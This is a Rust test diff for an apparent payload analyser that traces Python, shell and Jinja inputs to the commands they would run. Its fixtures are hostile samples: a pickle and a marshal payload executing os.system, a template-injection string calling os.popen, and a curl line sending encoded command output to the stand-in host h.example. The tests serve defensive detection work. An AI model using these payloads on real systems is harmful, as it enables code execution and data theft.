@@ -488,3 +488,84 @@ fn hostile_programs_end() {
         1
     );
 }
+
+#[test]
+fn serialised_arguments_are_read() {
+    for (data, layers) in [
+        (r#"b"cos\nsystem\n(S'id'\ntR.""#, &[][..]),
+        ("base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu')", &["base64"][..]),
+    ] {
+        let effects = of_python(&format!("import pickle, base64\npickle.loads({data})")).effects;
+        let outer = effects.first().expect("the outer effect");
+        assert_eq!(outer.callable, "pickle.loads");
+        assert_eq!(
+            (outer.payloads[0].kind.name(), &outer.payloads[0].layers[..]),
+            ("pickle", &layers.iter().map(|one| (*one).to_owned()).collect::<Vec<_>>()[..])
+        );
+        assert_eq!(lines(&outer.inner), ["run-command os.system [shell: id]"]);
+    }
+}
+
+/// The output of a Python program, where Python is installed.
+fn python3(program: &str) -> Option<String> {
+    let output = std::process::Command::new("python3").args(["-c", program]).output().ok()?;
+    output.status.success().then(|| String::from_utf8(output.stdout).ok())?
+}
+
+#[test]
+fn code_objects_are_lifted_when_and_where_they_run() {
+    let Some(data) = python3(
+        "import marshal\nprint(repr(marshal.dumps(compile('import os\\nos.system(\"id\")', 'x', 'exec'))))",
+    ) else {
+        return;
+    };
+    for (run, trigger, callable) in [
+        ("exec(marshal.loads(d))", Trigger::Load, "builtins.exec"),
+        ("types.FunctionType(marshal.loads(d), {})()", Trigger::Load, "marshal.loads"),
+        ("f = types.FunctionType(marshal.loads(d), {})", Trigger::Inference, "marshal.loads"),
+    ] {
+        let effects = of_python(&format!("import marshal, types\nd = {data}\n{run}")).effects;
+        let outer = effects.iter().find(|one| one.callable == callable).expect("the outer effect");
+        let inner = outer.inner.first().expect("what the code does");
+        assert_eq!((inner.callable.as_str(), inner.trigger), ("os.system", trigger), "{run}");
+        assert!(outer.payloads.iter().any(|one| one.layers == ["marshal"]), "{run}");
+    }
+}
+
+#[test]
+fn damaged_programs_end() {
+    let seeds = [
+        "import os, base64\nexec(base64.b64decode(b'aWQ=' + x).decode()[::-1] % (1, 'a'))",
+        "f = lambda a, *b, **c: [getattr(d, e)(**c) for d in a if d]\nclass A(B, m=C):\n  @x\n  def g(self): pass",
+        "{{ cycler.__init__['__glo' ~ 'bals__'].os.popen('id')|attr(x)[1:2] if a is b else {'c': 1} }}{% set a, b = 1 %}",
+        "A=1 curl -d \"a=$(id|base64)\" 'http://h.example/x?y=1' 2>&1 <<EOF | sh -c 'id; `x`'\nEOF\n",
+    ];
+    let mut state = 1_u64;
+    let mut next = || {
+        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
+        usize::try_from(state >> 40).expect("24 bits")
+    };
+    for _ in 0..150 {
+        for seed in seeds {
+            let mut bytes = seed.as_bytes().to_vec();
+            for _ in 0..=next() % 6 {
+                let at = next() % bytes.len();
+                match next() % 3 {
+                    0 => bytes[at] = u8::try_from(next() % 128).expect("ascii"),
+                    1 => bytes.truncate(at.max(1)),
+                    _ => bytes.extend_from_within(at..),
+                }
+            }
+            let text = String::from_utf8_lossy(&bytes).into_owned();
+            let mut budget = Budget::default();
+            of(&jinja::lift(&text, &mut budget));
+            of(&shell::lift(&text, Trigger::Load, &mut budget));
+            if let Some(program) = python::lift(&text, Trigger::Load, &mut budget) {
+                of(&program);
+            }
+            crate::indicators::extract(&text);
+            crate::indicators::requests(&text);
+            crate::peel::peel(&bytes, &mut budget, &mut Vec::new());
+        }
+    }
+}
